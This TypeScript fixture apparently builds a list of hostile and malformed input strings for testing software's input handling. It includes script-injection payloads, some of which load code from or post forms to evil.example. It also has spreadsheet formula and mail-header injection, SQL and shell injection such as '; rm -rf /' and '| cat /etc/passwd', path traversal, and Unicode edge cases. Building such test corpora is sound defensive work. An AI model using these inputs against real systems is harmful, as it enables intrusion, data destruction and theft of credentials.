/** Two hundred texts that did harm somewhere: to pages, spreadsheets, mail headers, databases or readers. */
export const nasty: string[] = [
  ...scripts(),
  ...formulas(),
  ...headers(),
  ...marks(),
  ...surrogates(),
  ...others(),
];

/** Each would set `pwned` or ask something, if it ran. */
function scripts(): string[] {
  const act = 'globalThis.pwned=1';
  const events = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle'];
  const tags = ['img src=x', 'svg', 'input autofocus', 'details open', 'body', 'video src=x', 'iframe'];
  return [
    `<script>${act}</script>`,
    `"><script>${act}</script>`,
    `'><script>${act}</script>`,
    `</title><script>${act}</script>`,
    `</textarea><script>${act}</script>`,
    `<scr<script>ipt>${act}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<script>${act}//`,
    `<a href="javascript:${act}">press</a>`,
    `<a href="data:text/html,<script>${act}</script>">press</a>`,
    `<iframe srcdoc="<script>${act}</script>">`,
    `<math><mtext><script>${act}</script></mtext></math>`,
    `<style>@import 'http://evil.example/x.css';</style>`,
    `<meta http-equiv="refresh" content="0;url=http://evil.example">`,
    `<base href="http://evil.example/">`,
    `<form action="http://evil.example"><button>Pay</button></form>`,
    `<object data="http://evil.example/x.swf"></object>`,
    `<!--<img src="--><img src=x onerror=${act}>`,
    `<![CDATA[<script>${act}</script>]]>`,
    `javascript:${act}`,
    `&lt;script&gt;${act}&lt;/script&gt;`,
    `&#60;script&#62;${act}&#60;/script&#62;`,
    `\\u003cscript\\u003e${act}`,
    `%3Cscript%3E${act}%3C/script%3E`,
    ...tags.flatMap((tag) => events.slice(0, 4).map((event) => `<${tag} ${event}=${act}>`)),
    ...events.map((event) => `" ${event}="${act}" x="`),
  ];
}

/** What a spreadsheet would work out, each with all that may stand before it. */
function formulas(): string[] {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠'];
  const rest = ['1+1', `cmd|' /C calc'!A0`, 'HYPERLINK("http://evil.example","Click")', 'SUM(A1:A9)'];
  const parts = ['a",=1+1,"b', 'a;=1+1', 'a\t=1+1', 'a\r\n=1+1', '"=1+1"', `'=1+1`];
  return [...starts.flatMap((start) => rest.map((each) => start + each)), ...parts];
}

function headers(): string[] {
  const lines = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '%0d%0a', '\\r\\n'];
  return lines.flatMap((line) => [
    `Zoë${line}Bcc: everybody@evil.example`,
    `Zoë${line}${line}<h1>Pay here</h1>`,
    `Zoë${line}Content-Type: text/html`,
  ]);
}

/** Marks that nobody sees, and those that turn text around. */
function marks(): string[] {
  const unseen = [
    '\u200b',
    '\u200e',
    '\u200f',
    '\u202a',
    '\u202e',
    '\u2066',
    '\u2069',
    '\ufeff',
    '\u00ad',
    '\0',
    '\u001b[31m',
  ];
  return [
    ...unseen.map((mark) => `Acme${mark}gnp.exe`),
    '\u202eمرحبا\u202c بالعالم',
    'שלום עולם',
    'می\u200cخواهم',
    '👩\u200d👩\u200d👧 Blumen',
    'e\u0301clair',
    `Z${'\u0335\u0321\u0489'.repeat(20)}algo`,
    '𝕭𝖑𝖔𝖔𝖒',
    '🇳🇱🇩🇪',
  ];
}

function surrogates(): string[] {
  return [
    '\ud800',
    '\udc00',
    '\udbff\udbff',
    'a\ud83d',
    '\ude00b',
    '\ud83d\ud83d\ude00',
    '\uffff',
    '\ufffe',
  ].map((half) => `Half ${half} done`);
}

function others(): string[] {
  const words = [
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-1',
    '1e309',
    '[object Object]',
    '__proto__',
    'constructor',
  ];
  return [
    ...words,
    `Robert'); DROP TABLE registrations;--`,
    `' OR '1'='1`,
    '" OR ""="',
    '$1',
    '%s%s%s%n',
    '${7*7}',
    '{{7*7}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '../../../../etc/passwd',
    'C:\\Windows\\System32',
    '{"a":1}',
    '["a"]',
    '\\',
    '; rm -rf /',
    '| cat /etc/passwd',
    '`id`',
    '$(id)',
    '<?php echo 1 ?>',
    '<esi:include src=http://evil.example/>',
    '*)(uid=*))(|(uid=*',
    '"',
    "O'Reilly & Sons <Ltd>",
    '100 % *bold* _it_ [link](http://evil.example)',
    'http://evil.example/?q=%00',
    'a'.repeat(100),
    '😀'.repeat(50),
  ];
}
